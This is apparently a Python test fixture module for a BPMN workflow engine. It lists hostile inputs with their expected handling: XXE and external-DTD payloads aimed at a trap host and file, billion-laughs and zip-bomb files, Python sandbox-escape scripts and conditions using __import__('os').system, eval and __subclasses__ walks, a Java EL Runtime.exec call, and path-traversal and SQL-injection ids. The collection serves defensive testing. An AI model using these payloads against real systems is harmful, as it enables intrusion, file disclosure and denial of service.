"""The hostile collection: what each file is, what is wanted of it, and how it is made.

Wanted: ``refuse`` by the checker; ``clear-error``, ``stop-at-limit``, ``contain``: refused, or an error in words, or
a bound, and nothing of it runs for long; ``accept``: it runs to its end, ``norun`` without running its script.
"""

import gzip
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from functools import partial

from tests.hostile.shapes import (
    END,
    LINE,
    PLAIN,
    RAN,
    START,
    TRAP,
    TRAP_FILE,
    XMLNS,
    around,
    conditional,
    diamonds,
    drawn,
    encoded,
    line,
    multi,
    nested,
    processes,
    repeated,
    script,
    scripted,
    sequence,
    timed,
    wide,
    with_doctype,
    zipped,
)
from tests.unit.bpmn_text import chain, flow, node, process


@dataclass(frozen=True)
class Entry:
    """One hostile file; ``make`` gives its bytes (some are too large to keep)."""

    name: str
    category: str
    what: str
    want: str
    make: Callable[[], bytes]


Row = tuple[str, str, str, Callable[[], bytes] | bytes]


def _entries(category: str, *rows: Row) -> Iterator[Entry]:
    for name, what, want, made in rows:
        yield Entry(name, category, what, want, made if callable(made) else partial(bytes, made))


def _xml() -> Iterator[Entry]:
    lol = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "lol"}">' for n in range(10))
    yield from _entries(
        "xml",
        ("xml_xxe_http", "external entity, http (SSRF)", "refuse",
         with_doctype(f'[<!ENTITY x SYSTEM "http://{TRAP}/xxe">]', "&x;")),
        ("xml_xxe_file", "external entity, file", "refuse",
         with_doctype(f'[<!ENTITY x SYSTEM "file://{TRAP_FILE}">]', "&x;")),
        ("xml_xxe_param", "parameter entity loading a local DTD", "refuse",
         with_doctype(f'[<!ENTITY % d SYSTEM "file://{TRAP_FILE}"> %d;]', "&leak;")),
        ("xml_extdtd_http", "external DTD, http", "refuse", with_doctype(f'SYSTEM "http://{TRAP}/ext.dtd"', "x")),
        ("xml_extdtd_file", "external DTD, file", "refuse", with_doctype(f'SYSTEM "file://{TRAP_FILE}"', "&leak;")),
        ("xml_doctype_internal_harmless", "harmless internal entity (a DOCTYPE at all)", "refuse",
         with_doctype('[<!ENTITY a "hello">]', "&a;")),
        ("xml_quadratic", "quadratic blow-up 1 GB", "refuse",
         lambda: with_doctype(f'[<!ENTITY a "{"a" * 50_000}">]', "&a;" * 20_000)),
        ("xml_billion_laughs", "entities of entities, 3 GB", "refuse", with_doctype(f"[{lol}]", "&l9;")),
        ("xml_schema_location_http", "schemaLocation to http", "accept, no fetch",
         around(process(PLAIN), ' id="d"',
                f' id="d" xsi:schemaLocation="http://www.omg.org/spec/BPMN/20100524/MODEL http://{TRAP}/BPMN20.xsd"')),
        ("xml_import_file", "BPMN import path traversal", "accept-or-refuse, no read",
         around(process(PLAIN), "<b:process", f'<b:import namespace="u" location="../../../..{TRAP_FILE}" '
                'importType="http://www.omg.org/spec/BPMN/20100524/MODEL"/><b:process')),
        ("xml_xinclude", "XInclude of a local file", "accept-or-refuse, no read",
         process(line(script("t", inner='<b:documentation><i:include xmlns:i="http://www.w3.org/2001/XInclude" '
                             f'href="file://{TRAP_FILE}" parse="text"/></b:documentation>{RAN}')))),
    )  # fmt: skip


def _many_attributes() -> bytes:
    return process(line(script("t", " ".join(f'a{n}="1"' for n in range(100_000)))))


def _unconnected() -> bytes:
    return process("".join(f'<b:task id="t{n}"/>' for n in range(100_000)))


def _size() -> Iterator[Entry]:
    text = "<b:documentation>{}</b:documentation>"
    yield from _entries(
        "size",
        ("size_huge_text_20MB", "20 MB text node", "refuse",
         lambda: process(line(script("t", inner=text.format("x" * 20_000_000) + RAN)))),
        ("size_many_attrs_100k", "100 000 attributes on one element", "refuse", _many_attributes),
        ("size_comment_50MB", "50 MB comment", "refuse", lambda: process(f"<!--{'x' * 50_000_000}-->{PLAIN}")),
        ("long_chain_50", "sequence of 50 tasks", "accept", partial(sequence, 50)),
        ("long_chain_150", "sequence of 150 tasks", "accept", partial(sequence, 150)),
        ("long_chain_300", "sequence of 300 tasks", "accept", partial(sequence, 300)),
        ("long_chain_1000", "sequence of 1000 tasks", "accept", partial(sequence, 1000)),
        ("wide_parallel_10", "parallel gateway with 10 branches", "accept", partial(wide, 10)),
        ("wide_parallel_500", "parallel gateway with 500 branches", "refuse-or-run", partial(wide, 500)),
        ("size_100k_unconnected", "100 000 unconnected tasks", "refuse", _unconnected),
        ("size_100k_chain", "100 000 elements (50 000-task chain)", "refuse", partial(sequence, 50_000)),
    )  # fmt: skip


def _deep() -> Iterator[Entry]:
    inner = "<b:extensionElements>" + "<x>" * 10_000 + "</x>" * 10_000 + "</b:extensionElements>"
    yield from _entries(
        "deep",
        ("deep_subprocess_20", "20 nested sub-processes", "accept", partial(nested, 20)),
        ("deep_subprocess_50", "50 nested sub-processes", "refuse-or-run", partial(nested, 50)),
        ("deep_subprocess_200", "200 nested sub-processes", "refuse-or-run", partial(nested, 200)),
        ("deep_extension_10000", "10 000 nested extension elements", "refuse",
         lambda: process(line(script("t", inner=inner + RAN)))),
    )  # fmt: skip


def _blowup() -> Iterator[Entry]:
    sizes = {"parallel": (5, 8, 12, 30), "inclusive": (3, 10, 12, 20, 30), "exclusive": (8, 15, 20)}
    for kind, counts in sizes.items():
        for count in counts:
            yield from _entries(
                "blowup",
                (f"diamonds_{kind}_{count}", f"{count} {kind} split/join blocks in a row", "accept",
                 partial(diamonds, f"{kind}Gateway", count)),
            )  # fmt: skip


def _encoding() -> Iterator[Entry]:
    yield from _entries(
        "encoding",
        ("enc_utf8", "UTF-8, Chinese", "accept", encoded("utf-8", "UTF-8")),
        ("enc_utf8_bom", "UTF-8 with a byte order mark", "accept", encoded("utf-8-sig", "UTF-8")),
        ("enc_nodecl_utf8", "no encoding declared, UTF-8", "accept", encoded("utf-8", "")),
        ("enc_utf16", "UTF-16 with a byte order mark", "accept", encoded("utf-16", "UTF-16")),
        ("enc_gb18030_declared", "GB18030, declared", "accept", encoded("gb18030", "GB18030")),
        ("enc_gb2312_declared", "GB2312, declared", "accept", encoded("gb2312", "gb2312")),
        ("enc_big5_declared", "Big5, declared", "accept", encoded("big5", "Big5", "審批")),
        ("enc_gbk_declared_utf8", "GBK bytes declared UTF-8", "refuse", encoded("gbk", "UTF-8")),
        ("enc_utf8_declared_gbk", "UTF-8 bytes declared GBK", "accept-or-refuse", encoded("utf-8", "GBK")),
        ("enc_unknown", "unknown encoding name", "refuse", encoded("utf-8", "X-NOT-AN-ENCODING")),
        ("enc_utf7", "UTF-7", "refuse", around(encoded("ascii", "UTF-7", "@"), "@", "+icRSElxAXnaAVFuhYnk")),
        ("enc_utf32", "UTF-32", "accept-or-refuse", encoded("utf-32", "UTF-32")),
        ("enc_charref_nul", "&#0;", "refuse", around(encoded("utf-8", "UTF-8"), "ran=1", "ran&#0;=1")),
        ("enc_bidi_ids", "bidi override / zero width in name", "accept-or-refuse",
         encoded("utf-8", "UTF-8", "\u202egnp.exe\u202c \u200b\ufeff")),
    )  # fmt: skip


def _not_bpmn() -> Iterator[Entry]:
    plain = process(PLAIN)
    dmn = b'<definitions xmlns="https://www.omg.org/spec/DMN/20191111/MODEL/" id="d" name="x" namespace="y">'
    pool = '<b:collaboration id="c"><b:participant id="pa" processRef="nope"/></b:collaboration>'
    root = plain[plain.index(b"<b:process") : plain.index(b"</b:definitions>")]
    space = '<b:process xmlns:b="http://www.omg.org/spec/BPMN/20100524/MODEL"'
    yield from _entries(
        "notbpmn",
        ("not_empty", "zero bytes", "refuse", b""),
        ("not_nuls", "4096 NUL bytes", "refuse", b"\0" * 4096),
        ("not_html", "HTML", "refuse", b"<!DOCTYPE html><html><body><p>hi</body></html>"),
        ("not_dmn", "DMN", "refuse", dmn + b'<decision id="z"/></definitions>'),
        ("not_zip", "zip renamed", "refuse", zipped("a.bpmn", [plain])),
        ("not_gzip", "gzip renamed", "refuse", gzip.compress(plain, mtime=0)),
        ("not_zipbomb", "zip bomb renamed", "refuse", lambda: zipped("a.bpmn", [bytes(1_000_000)] * 200)),
        ("not_truncated", "truncated XML", "refuse", plain[: plain.index(b"sourceRef")]),
        ("not_tworoots", "two roots", "refuse", plain + b"<x/>"),
        ("not_process_root", "process as root", "refuse", around(root, "<b:process", space)),
        ("not_only_collab", "collaboration with a missing process", "refuse",
         f"{XMLNS}>{pool}</b:definitions>".encode()),
    )  # fmt: skip


_SHARED = "a=[0]\n" + "a=a+a\n" * 16 + "b=[a]\n" + "b=b+b\n" * 16
"""65 536 references to one list of 65 536 numbers: small in memory, four milliard items to whoever walks it."""

_TREE = "{0}=[1,2,3]\n" + "{0}=[{0},{0},{0},{0}]\n" * 30
"""A list of lists of … 30 deep, each holding the next one four times."""

_SCRIPTS = (
    ("import_os", "import os", "refuse-or-contain", "import os\nos.system('touch pwn_import_os')"),
    ("open_write", "open() write", "refuse-or-contain", "open('pwn_open_write','w').write('x')"),
    ("environ", "read environment", "refuse-or-contain", "import os\nleak=dict(os.environ)"),
    ("eval_nested", "eval with split text", "refuse-or-contain",
     """eval('__imp'+'ort__("os").system("touch pwn_eval_nested")')"""),
    ("fstring", "f-string", "refuse-or-contain", """x=f'{__import__("os").system("touch pwn_fstring")}'"""),
    ("while_true", "endless loop", "stop-at-limit", "while True: pass"),
    ("mem_grow", "memory growth", "stop-at-limit", "x=[]\nwhile True: x.append('a'*10**6)"),
    ("recursion", "unbounded recursion", "clear-error", "def f(n): return f(n+1)\nf(0)"),
    ("str_int", "int() of 10 million digits", "stop-at-limit", "x=int('9'*10**7)"),
    ("sys_exit", "SystemExit", "clear-error", "import sys\nsys.exit(0)"),
    ("os_exit", "kills the interpreter", "contain", "import os\nos._exit(0)"),
    ("kbdint", "raises KeyboardInterrupt", "clear-error", "raise KeyboardInterrupt"),
    ("generatorexit", "raises GeneratorExit", "clear-error", "raise GeneratorExit"),
    ("socket", "outbound http", "refuse-or-contain",
     f"import urllib.request\nurllib.request.urlopen('http://{TRAP}/script',timeout=2)"),
    ("stdin", "reads stdin", "clear-error", "x=input()"),
    ("nan", "NaN/Infinity in data", "accept-or-refuse", "a=float('nan')\nb=float('inf')"),
    ("bigdata", "50 MB variable", "stop-at-limit", "a='x'*50_000_000"),
    ("bytes", "non-JSON values", "clear-error",
     r"a=b'\x00\xff';b={1,2};c=(1,);d=1j;import datetime;e=datetime.date(2020,1,1)"),
    ("set", "a set, which JSON has not", "accept-or-refuse", "a={1,2}"),
    ("doubling", "a text doubled by every line", "stop-at-limit", "a='xxxxxxxxxx'\n" + "a=a+a\n" * 60),
    ("tree", "a list of itself, 30 levels", "stop-at-limit", _TREE.format("a")),
    ("tree_text", "the text of a list of lists", "stop-at-limit", _TREE.format("a") + "b=str(a)"),
    ("tree_equal", "two equal lists of lists compared", "stop-at-limit",
     _TREE.format("a") + _TREE.format("b") + "c=a==b"),
    ("sum_lists", "the sum of many long lists", "stop-at-limit", _SHARED + "c=sum(b,[])"),
    ("sort_lists", "long equal lists sorted", "stop-at-limit", _SHARED + "c=sorted(b)"),
    ("find_list", "a long list looked for in long lists", "stop-at-limit",
     _SHARED + "a=a+[1]\nc=[0.0]\n" + "c=c+c\n" * 16 + "d=c+[2] in b"),
    ("itself", "a list put into itself", "accept-or-refuse", "a=[1]\na[0]=a\nb=str(a)"),
    ("surrogate", "half a character", "clear-error", r"a='\ud800'"),
    ("squaring", "a number squared by every line", "stop-at-limit", "a=9999999999\n" + "a=a*a\n" * 60),
    ("syntax", "syntax error", "clear-error", "def (:"),
    ("keyerror_int", "KeyError with an int", "clear-error", "x={}[1]"),
    ("dunder", "class walk", "refuse-or-contain", "x=().__class__.__base__.__subclasses__()"),
)  # fmt: skip

_CONDITIONS = (
    ("lambda", "lambda", "refuse-or-contain", "(lambda: __import__('os').system('touch pwn_cond_lambda'))()==0"),
    ("walrus", "walrus", "refuse-or-contain", "[y:=__import__('os'), y.system('touch pwn_cond_walrus')]!=[]"),
    (
        "format",
        "str.format attribute walk",
        "refuse-or-contain",
        "'{0.__class__.__init__.__globals__}'.format(print) and open('pwn_cond_format','w') and True",
    ),
    ("percent", "a field 100 million characters wide", "clear-error", "'%0100000000d' % 7 == ''"),
    ("genexpr", "endless generator", "stop-at-limit", "all(True for _ in iter(int,1))"),
    ("power", "a number of 40 million digits", "clear-error", "9**9**9 > 0"),
    ("round", "rounding to 4 milliard places", "stop-at-limit", "round(5, -4000000000) == 0"),
    ("is_text", "identity of a text, which Python warns of", "clear-error", "(1 is 'a') or no_such_variable"),
    ("escape", "an escape sequence Python warns of", "accept-or-refuse", r"'\d' == 'd'"),
    ("deep_not", "100 000 nots", "clear-error", "not " * 100_000 + "True"),
    ("deep_brackets", "100 000 brackets", "clear-error", "(" * 100_000 + "True" + ")" * 100_000),
    ("long_or", "200 000 or", "accept-or-refuse", "True or " * 200_000 + "True"),
    ("long_plus", "100 000 additions", "clear-error", "1+" * 100_000 + "1"),
    ("undefined", "undefined variable", "clear-error", "no_such_variable > 3"),
    ("syntax", "syntax error", "clear-error", "a = = 3"),
    ("assign", "assignment", "clear-error", "amount = 3"),
    ("empty", "empty condition", "clear-error", ""),
    ("el", "Camunda EL", "accept-or-refuse", "${amount > 3}"),
    (
        "el_call",
        "Camunda EL that calls a bean",
        "clear-error",
        "${T(java.lang.Runtime).getRuntime().exec('touch pwn')}",
    ),
)


def _code() -> Iterator[Entry]:
    for name, what, want, text in _SCRIPTS:
        yield from _entries("code", (f"code_script_{name}", f"script: {what}", want, scripted(text)))
    for name, what, want, text in _CONDITIONS:
        yield from _entries("code", (f"code_cond_{name}", f"condition: {what}", want, conditional(text)))


_TIMERS = (
    ("neg", "negative duration", "clear-error", "timeDuration", '"-PT1S"'),
    ("neg_plain", "negative duration, as other modelers write it", "clear-error", "timeDuration", "-PT1S"),
    ("huge", "99 999 999 years", "clear-error", "timeDuration", '"P99999999Y"'),
    ("huge_digits", "a number of 5 000 digits", "clear-error", "timeDuration", f"PT{'9' * 5_000}S"),
    ("tiny_cycle", "endless tiny cycle", "stop-at-limit", "timeCycle", '"R/PT0.000001S"'),
    ("baddate", "impossible date", "clear-error", "timeDate", '"2026-02-30T25:61:00"'),
    ("date_nozone", "date without zone", "accept", "timeDate", '"2026-01-01T00:00:00"'),
    ("cron", "cron (Flowable/Camunda style)", "clear-error", "timeCycle", '"0 0/5 * * * ?"'),
    ("week", "impossible week date", "clear-error", "timeDate", '"2026-W99-9"'),
    ("last_year", "the last second of the calendar", "accept-or-refuse", "timeDate", "9999-12-31T23:59:59Z"),
    ("first_year", "the first second of the calendar", "accept-or-refuse", "timeDate", "0001-01-01T00:00:00"),
    ("cycle_last_year", "a cycle beyond the end of the calendar", "accept-or-refuse", "timeCycle",
     "R3/9999-12-31T23:59:59Z/P1D"),
    ("cycle_days_back", "a cycle that began before the calendar, in days", "accept-or-refuse", "timeCycle",
     "R999999/P73000D/2026-01-01"),
    ("cycle_years_back", "a cycle that began before the calendar, in years", "accept-or-refuse", "timeCycle",
     "R999999/P200Y/2026-01-01"),
    ("code", "a duration computed by code", "clear-error", "timeDuration", "__import__('os').system('touch pwn')"),
)  # fmt: skip


def _timer() -> Iterator[Entry]:
    for name, what, want, kind, text in _TIMERS:
        yield from _entries("timer", (f"timer_{name}", what, want, timed(kind, text)))
    nothing = node("intermediateCatchEvent", "t", inner="<b:timerEventDefinition/>")
    yield from _entries("timer", ("timer_none", "timer without expression", "clear-error", process(line(nothing))))


def _repeated() -> Iterator[Entry]:
    forever = "<b:loopCondition>True</b:loopCondition></b:standardLoopCharacteristics>"
    yield from _entries(
        "multi-instance",
        ("mi_par_1000", "parallel cardinality 1000", "refuse-or-run", multi("1000")),
        ("mi_par_10000", "parallel cardinality 10000", "refuse-or-run", multi("10000")),
        ("mi_par_1000000", "parallel cardinality 1000000", "refuse-or-run", multi("1000000")),
        ("mi_par_digits", "parallel cardinality of 5 000 digits", "refuse-or-run", multi("9" * 5_000)),
        ("mi_seq_100000", "sequential cardinality 100 000", "refuse-or-run", multi("100000", sequential=True)),
        ("mi_zero", "zero cardinality", "accept-norun", multi("0")),
        ("mi_negative", "negative cardinality", "clear-error", multi("-1")),
        ("mi_float", "fractional cardinality", "clear-error", multi("2.5")),
        ("mi_text", "a text as cardinality", "clear-error", multi("'many'")),
        ("mi_none", "no cardinality and no collection", "clear-error", multi("")),
    )
    yield from _entries(
        "loop",
        ("loop_forever", "standard loop that never ends", "stop-at-limit",
         repeated(f"<b:standardLoopCharacteristics>{forever}")),
        ("loop_max_neg", "negative loopMaximum", "clear-error",
         repeated(f'<b:standardLoopCharacteristics loopMaximum="-1">{forever}')),
    )  # fmt: skip


def _flow() -> Iterator[Entry]:
    two_calls = node("callActivity", "a", 'calledElement="p"') + node("callActivity", "b", 'calledElement="p"')
    twice = node("parallelGateway", "g") + two_calls + END + node("endEvent", "e2") + chain("s>g>a>e; g>b>e2")
    cycle = "<b:timerEventDefinition><b:timeCycle>{}</b:timeCycle></b:timerEventDefinition>"
    beside = START + node("userTask", "u") + script("t") + END + node("endEvent", "e2") + chain("s>u>e; i>t>e2")
    at = 'attachedToRef="u" cancelActivity="false"'
    hears = node("receiveTask", "u", 'messageRef="never"')
    breeding = START + hears + END + node("boundaryEvent", "i", at, "{}") + chain("s>u>e; i>u")
    never = '<b:message id="never" name="never"/><b:process'
    always = "<b:conditionalEventDefinition><b:condition>True</b:condition></b:conditionalEventDefinition>"
    deadlock = node("exclusiveGateway", "x", 'default="x-a"') + node("task", "a") + node("task", "b")
    deadlock += node("parallelGateway", "j") + chain("s>x>a>j>e; b>j") + flow("x", "b", "False")
    explosion = node("exclusiveGateway", "m") + node("parallelGateway", "g") + script("a") + script("b")
    signal = '<b:signal id="sig" name="sig"/><b:process'
    throws = node("intermediateThrowEvent", "t", inner='<b:signalEventDefinition signalRef="sig"/>')
    begins = node("startEvent", "es", 'isInterrupting="false"', '<b:signalEventDefinition signalRef="sig"/>')
    again = begins + throws.replace('"t"', '"et"') + node("endEvent", "ee") + chain("es>et>ee")
    echo = node("subProcess", "ev", 'triggeredByEvent="true"', again)
    yield from _entries(
        "flow",
        ("flow_token_explosion", "parallel split inside a cycle: tokens double for ever", "stop-at-limit",
         process(START + explosion + chain("s>m>g>a>m; g>b>m"))),
        ("flow_parallel_deadlock", "XOR split into AND join (deadlock)", "warn-or-refuse",
         process(START + deadlock + END)),
        ("flow_call_self", "call activity calling its own process", "refuse-or-stop",
         process(line(node("callActivity", "t", 'calledElement="p"')))),
        ("flow_call_fork", "process calling itself twice in parallel", "refuse-or-stop", process(START + twice)),
        ("flow_call_each_other", "two processes calling each other", "refuse-or-stop",
         processes(("p", line(node("callActivity", "t", 'calledElement="q"'))),
                   ("q", START.replace('"s"', '"s2"') + node("callActivity", "t2", 'calledElement="p"')
                    + END.replace('"e"', '"e2"') + chain("s2>t2>e2")))),
        ("flow_call_missing", "call activity to a missing process", "clear-error",
         process(line(node("callActivity", "t", 'calledElement="nope"')))),
        ("flow_call_none", "call activity without calledElement", "clear-error",
         process(line(node("callActivity", "t")))),
        ("flow_boundary_cycle", "non-interrupting zero-length cycle timer on a user task", "stop-at-limit",
         process(beside + node("boundaryEvent", "i", at, cycle.format('"R/PT0S"')))),
        ("flow_boundary_tiny_cycle", "non-interrupting endless cycle of a microsecond", "stop-at-limit",
         process(beside + node("boundaryEvent", "i", at, cycle.format("R/PT0.000001S")))),
        ("flow_timer_breeding", "a repeating timer on a task that starts the task again", "stop-at-limit",
         around(process(breeding.format(cycle.format("R/PT10M"))), "<b:process", never)),
        ("flow_condition_breeding", "a condition that is always true on a task, starting the task again",
         "stop-at-limit", around(process(breeding.format(always)), "<b:process", never)),
        ("flow_signal_echo", "an event sub-process that throws the signal it waits for", "stop-at-limit",
         around(process(line(throws, more=echo)), "<b:process", signal)),
    )  # fmt: skip


def _same_ids() -> Iterator[Entry]:
    other = PLAIN.replace('="s"', '="s2"').replace('="t"', '="t2"').replace('="e"', '="e2"')
    yield from _entries(
        "structure",
        ("struct_dup_task_id", "two tasks with one id", "clear-error",
         process(PLAIN + script("t", inner="<b:script>second=1</b:script>"))),
        ("struct_dup_flow_task_id", "flow and task share an id", "clear-error",
         process(START + script("t") + END + flow("s", "t", identity="t") + flow("t", "e"))),
        ("struct_dup_process_id", "two processes with one id", "clear-error",
         processes(("p", PLAIN), ("p", other.replace('="in"', '="in2"').replace('="out"', '="out2"')))),
        ("struct_dup_across_process", "same node ids in two processes", "clear-error",
         processes(("p", PLAIN), ("q", PLAIN))),
    )  # fmt: skip


def _connections() -> Iterator[Entry]:
    two_ends = START + node("exclusiveGateway", "g") + END + node("endEvent", "e2")
    timer = "<b:timerEventDefinition><b:timeDuration>PT1S</b:timeDuration></b:timerEventDefinition>"
    inside = node("startEvent", "s2") + script("t") + node("endEvent", "e2") + chain("s2>t>e2")
    yield from _entries(
        "structure",
        ("struct_flow_no_target", "flow without targetRef", "clear-error",
         process(PLAIN + '<b:sequenceFlow id="z" sourceRef="t"/>')),
        ("struct_flow_to_process", "flow to the process itself", "clear-error",
         process(START + script("t") + END + flow("s", "t") + flow("t", "p"))),
        ("struct_flow_into_subprocess", "flow crossing a sub-process border", "clear-error",
         process(START + node("subProcess", "sp", inner=inside) + END + chain("s>t; sp>e"))),
        ("struct_empty_process", "empty process", "clear-error", process("")),
        ("struct_gateway_no_out", "gateway without outgoing flow", "clear-error",
         process(START + node("exclusiveGateway", "g") + chain("s>g"))),
        ("struct_gateway_no_cond", "exclusive gateway without conditions", "clear-error",
         process(two_ends + chain("s>g>e; g>e2"))),
        ("struct_no_match", "no condition true, no default", "clear-error",
         process(two_ends + chain("s>g") + flow("g", "e", "False") + flow("g", "e2", "False"))),
        ("struct_boundary_on_gateway", "boundary event on a gateway", "clear-error",
         process(line(node("parallelGateway", "t"), node("boundaryEvent", "b", 'attachedToRef="t"', timer)))),
        ("struct_boundary_self", "boundary event attached to itself", "clear-error",
         process(PLAIN + node("boundaryEvent", "b", 'attachedToRef="b"', timer))),
    )  # fmt: skip


def _names() -> Iterator[Entry]:
    dotted = "t.BoundaryEventSplit"
    yield from _entries(
        "structure",
        ("struct_id_chinese", "Chinese id (valid NCName)", "accept", process(line(script("审批任务"), "", "审批任务"))),
        ("struct_id_path", "id with a path", "clear-error",
         process(line(script("../../etc/passwd"), "", "../../etc/passwd"))),
        ("struct_id_sql", "id with SQL", "clear-error",
         process(line(script("t'); DROP TABLE x;--"), "", "t'); DROP TABLE x;--"))),
        ("struct_id_BoundarySplit", "task called 't.BoundaryEventSplit'", "accept",
         process(PLAIN + script(dotted, inner="<b:script>z=1</b:script>"))),
        ("struct_pid_chinese", "Chinese process id", "accept", process(PLAIN, "并联审批")),
        ("struct_name_null_string", "name 'None'", "accept", process(line(script("t", 'name="None"')))),
        ("struct_exec_TRUE", 'isExecutable="TRUE" (not xsd:boolean)', "accept-or-refuse",
         around(process(PLAIN), '"true"', '"TRUE"')),
        ("struct_exec_absent", "isExecutable absent", "accept-or-refuse",
         around(process(PLAIN), ' isExecutable="true"', "")),
        ("struct_exec_false", 'isExecutable="false"', "clear-error", around(process(PLAIN), '"true"', '"false"')),
    )  # fmt: skip


def _parts() -> Iterator[Entry]:
    missing = '<b:messageEventDefinition messageRef="nope"/>'
    link = '<b:linkEventDefinition name="L"/>'
    links = node("intermediateThrowEvent", "a", inner=link) + node("intermediateCatchEvent", "b", inner=link)
    lane = '<b:laneSet id="ls"><b:lane id="l" name="规划局"><b:flowNodeRef>nope</b:flowNodeRef></b:lane></b:laneSet>'
    yield from _entries(
        "structure",
        ("struct_script_missing", "script task without script", "clear-error", process(line(script("t", inner="")))),
        ("struct_script_two", "script task with two scripts", "clear-error",
         process(line(script("t", inner="<b:script>a=1</b:script><b:script>b=1</b:script>")))),
        ("struct_service_plain", "service task without an implementation", "clear-error",
         process(line(node("serviceTask", "t")))),
        ("struct_complex_gw", "complex gateway", "accept-or-refuse", process(line(node("complexGateway", "t")))),
        ("struct_complex_gw_condition", "complex gateway with an activationCondition", "accept",
         process(START + node("parallelGateway", "g") + script("a") + script("t") + END
                 + node("complexGateway", "j", inner="<b:activationCondition>activationCount >= 1"
                        "</b:activationCondition>") + chain("s>g>a>j>e; g>t>j"))),
        ("struct_subprocess_empty", "empty sub-process", "clear-error", process(line(node("subProcess", "t")))),
        ("struct_subprocess_no_end", "sub-process without end event", "clear-error",
         process(line(node("subProcess", "t", inner=node("startEvent", "s2"))))),
        ("struct_eventbased_to_task", "event gateway into a plain task", "clear-error",
         process(START + node("eventBasedGateway", "g") + node("task", "t") + END + chain("s>g>t>e"))),
        ("struct_message_ref_missing", "missing message", "clear-error",
         process(line(node("intermediateCatchEvent", "t", inner=missing)))),
        ("struct_link_event", "link events (valid BPMN)", "accept",
         process(START + links + script("t") + END + chain("s>a; b>t>e"))),
        ("struct_task_two_out", "task with two outgoing flows (valid BPMN: parallel)", "accept",
         process(START + node("task", "t") + END + node("endEvent", "e2") + LINE + flow("t", "e2"))),
        ("struct_lane_missing", "lane refers to a missing node", "accept-or-refuse", process(lane + PLAIN)),
    )  # fmt: skip


def _diagram() -> Iterator[Entry]:
    yield from _entries(
        "diagram",
        ("di_x_nan", "NaN coordinate", "accept-or-clear-error", drawn("t", "NaN")),
        ("di_x_inf", "infinite coordinate", "accept-or-clear-error", drawn("t", "1e999")),
        ("di_x_empty", "empty coordinate", "accept-or-clear-error", drawn("t", "")),
        ("di_missing_elem", "shape of a missing element", "accept-or-clear-error", drawn("nope", "1")),
    )


_ALL = (
    _xml, _size, _deep, _blowup, _encoding, _not_bpmn, _code, _timer, _repeated, _flow, _same_ids, _connections, _names,
    _parts, _diagram,
)  # fmt: skip


def collection() -> dict[str, Entry]:
    """Every entry by its name."""
    entries = [entry for part in _ALL for entry in part()]
    named = {entry.name: entry for entry in entries}
    assert len(named) == len(entries)
    return named
